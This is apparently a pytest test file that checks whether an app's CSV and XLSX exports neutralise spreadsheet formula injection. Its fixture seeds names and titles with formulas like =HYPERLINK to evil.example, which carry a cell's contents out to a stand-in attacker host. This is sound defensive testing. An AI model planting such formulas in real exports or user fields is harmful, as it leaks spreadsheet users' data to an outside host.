"""Every CSV the app produces neutralises formulas: no cell a spreadsheet would run starts with
= + - @, a tab or a carriage return."""

from __future__ import annotations

import csv
import io
import itertools

import openpyxl
import pytest

from govtrack.core.exports import csv_safe
from tests.hostile.conftest import build_world

STARTS = ("=", "+", "-", "@", "\t", "\r")
_next = itertools.cycle(STARTS)


# Names and titles refuse control characters, a tab or a carriage return too (test_names.py); the
# texts the exports show each get their own start, so that every start is seen in them.
NAMES = {"admin name", "user name", "partner name", "legal name", "contact name", "draft title", "active title",
         "member name", "forum name", "meeting title", "agenda title", "motion title"}
EXPORTED = {"admin name": "=", "partner name": "+", "active title": "-", "obligation title": "@",
            "obligation note": "\t"}


def formula(kind: str) -> str:
    if kind in {"document name", "evidence name"}:
        return kind
    start = EXPORTED.get(kind) or next(_next)
    while kind in NAMES and start in ("\t", "\r"):
        start = next(_next)
    return f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"{kind}\")"


@pytest.fixture
def formula_world(app, make_user, make_partner, make_agreement, today):
    with app.test_request_context():
        return build_world(make_user, make_partner, make_agreement, text=formula)


def csv_routes(app) -> list[str]:
    return sorted(r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv") and not r.arguments)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_csv_safe_neutralises_each_formula_start(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Bank Syariah", "1500000.00", "", None, "2027-03-15", " a=b"])
def test_csv_safe_keeps_ordinary_values(value):
    assert csv_safe(value) == ("" if value is None else value)


def test_every_csv_export_neutralises_formulas(sign_in, app, client, formula_world):
    sign_in(formula_world.admin)
    routes = csv_routes(app)
    assert {"/obligations/export.csv", "/obligations/maturity.csv"} <= set(routes), routes
    cells = []
    for url in routes + ["/obligations/export.csv?status=fulfilled", "/obligations/export.csv?status=open"]:
        resp = client.get(url)
        assert resp.status_code == 200 and resp.mimetype == "text/csv", url
        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
        assert rows, url
        for row in rows:
            for cell in row:
                assert not cell.startswith(STARTS), (url, cell)
                cells.append(cell)
    # The hostile texts are there, made harmless (else the test would prove nothing).
    # (Cells that begin with one: the audit log's export also quotes them inside its words, such as
    # "Name: =HYPERLINK(…)", which no spreadsheet runs.)
    shown = [c for c in cells if c.find("HYPERLINK") in (0, 1, 2)]
    # A leading tab or CR may have been stripped on the way in: that text starts with a letter.
    assert all(c.startswith(("'", "HYPERLINK")) for c in shown), shown
    assert {c[1] for c in shown if c.startswith("'")} >= {"=", "+", "-", "@"}


def test_every_xlsx_twin_holds_the_hostile_texts_as_text(sign_in, app, client, formula_world):
    """The workbooks carry the same texts; none is a formula, each formula-like one is marked as text."""
    sign_in(formula_world.admin)
    shown = []
    for url in [route[:-4] + ".xlsx" for route in csv_routes(app)] + ["/obligations/export.xlsx?status=fulfilled"]:
        resp = client.get(url)
        assert resp.status_code == 200, url
        sheet = openpyxl.load_workbook(io.BytesIO(resp.get_data())).worksheets[0]
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(STARTS):
                    assert cell.quotePrefix, (url, cell.coordinate, cell.value)
                    shown.append(cell.value)
    assert {c[0] for c in shown if "HYPERLINK" in c} >= {"=", "+", "-", "@"}
